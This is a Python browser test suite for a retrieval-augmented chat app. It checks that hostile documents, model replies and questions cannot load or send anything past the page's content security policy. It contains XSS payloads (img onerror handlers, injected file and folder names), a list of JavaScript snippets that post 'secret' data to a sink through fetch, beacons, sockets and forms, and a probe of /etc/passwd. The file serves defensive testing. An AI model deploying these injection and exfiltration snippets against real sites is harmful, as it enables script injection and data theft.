"""Documents and models cannot make the page load or send anything: whatever they write, it is shown as text."""

from __future__ import annotations

import re
import subprocess
import sys
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from random import Random
from typing import Any

import pytest

from rag.web.serve import _POLICY
from tests.browser.app import ROOT, App, environment
from tests.doubles.replies import Says
from tests.doubles.scripted import ScriptedEndpoint
from tests.trust.carriers import CARRIERS, RAN, aimed
from tests.trust.rounds import SOAKING
from tests.trust.sink import Sink, Watched

# At once in CI; one by one in the soak.
GROUPS = [[name] for name in CARRIERS] if SOAKING else [list(CARRIERS)[n::3] for n in range(3)]
SEED = 20


@pytest.fixture(scope="module")
def sink() -> Iterator[Sink]:
    with Sink() as sink:
        yield sink


@pytest.fixture
def quiet_sink(sink: Sink) -> Sink:
    sink.hits.clear()
    return sink


@pytest.fixture(scope="module")
def model(sink: Sink) -> Iterator[ScriptedEndpoint]:
    names = [aimed(f'![x](SINK/m.png) <img src=SINK/n.png onerror="{RAN}">', sink.url), "SINK/model`<b>`"]
    with ScriptedEndpoint(models=names) as endpoint:
        yield endpoint


@pytest.fixture(scope="module")
def hostile(
    start: Callable[..., App], sink: Sink, model: ScriptedEndpoint, tmp_path_factory: pytest.TempPathFactory
) -> App:
    """The app over documents that carry everything, in their text, titles, headings and names."""
    base = tmp_path_factory.mktemp("hostile") / "knowledge-base"
    for n, (name, text) in enumerate(CARRIERS.items()):
        line = " ".join(text.replace("\x00", "").split())
        folder = base / ("<img src=x onerror=owned=1>" if n % 2 else "![x](y) `z` {{w}}")
        folder.mkdir(parents=True, exist_ok=True)
        told = f"# {line if n % 3 else name}\n\n## What does {line if n % 3 == 0 else name} do?\n\nThe quokka {n} is told of here. {text}"
        told += f"\n\nThe quokka {n} eats {n + 7} biscuits a day, which is written down here so that there is something to find."
        (folder / f"![{n}](x) <img src=x onerror='{RAN}'>.md".replace("/", "")).write_text(
            aimed(told, sink.url), encoding="utf-8"
        )
    command = [sys.executable, "-m", "rag.ingest", "--knowledge-base", str(base), "--index", str(base.parent / "index")]
    done = subprocess.run(
        command, cwd=base.parent, env=environment(PYTHONPATH=str(ROOT)), capture_output=True, text=True, timeout=300
    )
    assert done.returncode == 0, done.stderr
    return start(RAG_INDEX=str(base.parent / "index"), RAG_K="20", OPENAI_BASE_URL=model.base_url)


def pieces(text: str, seed: int) -> tuple[str, ...]:
    """The text as a model streams it, a few letters at a time, cut where something begins, goes on and ends."""
    random = Random(seed)
    return tuple(re.findall(rf"(?s)[!\[\]()<>`&:/]|[^!\[\]()<>`&:/]{{1,{random.randint(2, 12)}}}", text))


def said(names: list[str], sink: Sink) -> str:
    return aimed("\n\n".join(f"Of quokka {n} [{n}]: {CARRIERS[name]}" for n, name in enumerate(names, 1)), sink.url)


def question(names: list[str], sink: Sink) -> str:
    """What the visitor asks holds them too: with all that makes a question, at most 4,000 characters."""
    return aimed("What of the quokka? " + "\n\n".join(CARRIERS[name] for name in names), sink.url)[:3900]


# The page's own script takes foreign things out of a conversation; here it does not, so that what we send is seen as it is.
_UNGUARDED = """const observe = MutationObserver.prototype.observe;
MutationObserver.prototype.observe = function (target, ...rest) { if (target !== document) observe.call(this, target, ...rest) }"""


@pytest.mark.parametrize("names", GROUPS, ids=lambda names: names[0])
@pytest.mark.parametrize("end", ["whole", "cut"] if SOAKING else ["whole"])
def test_an_answer_and_its_sources_load_send_and_lead_nowhere(
    hostile: App, model: ScriptedEndpoint, quiet_sink: Sink, visit: Any, browser: Any, names: list[str], end: str
) -> None:
    text = said(names, quiet_sink)
    cut = pieces(text, SEED)
    model.script = lambda messages: Says(text, pieces=cut, cut_after=len(cut) - 3 if end == "cut" else None)
    context = browser.new_context(viewport={"width": 1440, "height": 900})
    context.add_init_script(_UNGUARDED)
    visitor = visit(hostile, context=context)
    watched = Watched(visitor)
    visitor.ask("What do the quokkas eat?")
    for view in visitor.page.locator("#panel .turn.shown details.found summary").all():
        view.click()
    watched.is_quiet(quiet_sink)
    assert visitor.sources.count() > 0
    assert "Of quokka 1" in visitor.answers.last.inner_text()
    if end == "whole":  # and what the browser kept is as quiet
        visitor.has_saved(1)
        visitor.page.reload()
        watched = Watched(visitor)
        visitor.page.locator("#saved-list td, #saved-list button").first.click()
        visitor.page.locator("#panel .turn.shown .source").first.wait_for()
        visitor.page.get_by_text("Of quokka 1").first.wait_for()
        watched.is_quiet(quiet_sink)
    context.close()


def test_the_first_sight_of_the_page_is_quiet(
    hostile: App, model: ScriptedEndpoint, quiet_sink: Sink, visit: Any
) -> None:
    model.script = lambda messages: "Seven biscuits [1]."
    visitor = visit(hostile)
    watched = Watched(visitor)
    for picker in ("#doc-type input", "#llm input"):
        visitor.page.locator(picker).click()
        visitor.page.get_by_role("option").first.wait_for()
        watched.is_quiet(quiet_sink)
        visitor.page.keyboard.press("Escape")
    examples = visitor.page.locator("#chat .example")
    assert examples.count() > 0
    examples.first.click()
    visitor.settled(1)
    watched.is_quiet(quiet_sink, saved_by_policy=True)


@pytest.mark.parametrize("names", GROUPS, ids=lambda names: names[0])
def test_a_visitors_own_question_is_quiet(
    hostile: App, model: ScriptedEndpoint, quiet_sink: Sink, visit: Any, names: list[str]
) -> None:
    model.script = lambda messages: "Seven biscuits [1]."
    visitor = visit(hostile)
    watched = Watched(visitor)
    visitor.send(question(names, quiet_sink))
    visitor.settled(1)
    watched.is_quiet(quiet_sink, saved_by_policy=True)
    visitor.page.context.close()


INTRUDERS = {
    "image": "(sink) => { new Image().src = sink + '/p.png' }",
    "stylesheet": "(sink) => document.head.insertAdjacentHTML('beforeend', `<link rel=stylesheet href='${sink}/s.css'>`)",
    "css": "(sink) => document.body.insertAdjacentHTML('beforeend', `<p style='background:url(${sink}/p.png)'>x</p>`)",
    "font": "(sink) => new FontFace('x', `url(${sink}/f.woff)`).load().catch(() => 0)",
    "script": "(sink) => { const s = document.createElement('script'); s.src = sink + '/s.js'; document.head.append(s) }",
    "frame": "(sink) => document.body.insertAdjacentHTML('beforeend', `<iframe src='${sink}/i'></iframe>`)",
    "object": "(sink) => document.body.insertAdjacentHTML('beforeend', `<object data='${sink}/o'></object><embed src='${sink}/e'>`)",
    "media": "(sink) => document.body.insertAdjacentHTML('beforeend', `<video src='${sink}/v' poster='${sink}/p' autoplay></video>`)",
    "fetch": "(sink) => fetch(sink + '/f', {method: 'POST', body: 'secret'}).catch(() => 0)",
    "beacon": "(sink) => { navigator.sendBeacon(sink + '/b', 'secret') }",
    "socket": "(sink) => { try { new WebSocket(sink.replace('http', 'ws') + '/w') } catch {} }",
    "worker": "(sink) => { try { new Worker(URL.createObjectURL(new Blob(['1']))) } catch {} }",
    "form": "(sink) => { const f = document.createElement('form'); f.action = sink + '/f'; document.body.append(f); f.submit() }",
    "handler": "() => document.body.insertAdjacentHTML('beforeend', `<img src=data:, onerror='window.owned=1'>`)",
    "base": "(sink) => document.head.insertAdjacentHTML('afterbegin', `<base href='${sink}/'>`)",
}


def test_the_policy_stops_what_would_get_past_us(hostile: App, quiet_sink: Sink, visit: Any) -> None:
    """Nothing of this can be written by a document; were it, the browser would still refuse it."""
    visitor = visit(hostile)
    watched = Watched(visitor)
    for name, code in INTRUDERS.items():
        before = len(watched.refused)
        visitor.page.evaluate(code, quiet_sink.url)
        visitor.page.wait_for_function("n => window.refused.length > n", arg=before, timeout=10_000)
        assert quiet_sink.hits == [], name
    assert visitor.page.evaluate("window.owned") is None
    assert visitor.page.evaluate("document.baseURI").startswith(hostile.url)


def test_the_policy_goes_with_every_route(hostile: App, start: Callable[..., App]) -> None:
    private = start("--auth", "ada:correct horse", RAG_LLM="extractive")
    routes = [
        "/",
        "/nothing/here",
        "/config",
        "/theme.css",
        "/gradio_api/info",
        "/manifest.json",
        "/gradio_api/file=/etc/passwd",
    ]
    posts = ["/login", "/gradio_api/upload", "/gradio_api/queue/join"]
    for app in (hostile, private):
        for route in [*routes, *posts]:
            request = urllib.request.Request(f"{app.url}{route}", data=b"{}" if route in posts else None)
            try:
                headers = urllib.request.urlopen(request).headers
            except urllib.error.HTTPError as error:
                headers = error.headers
            assert headers.get_all("content-security-policy") == [_POLICY], route
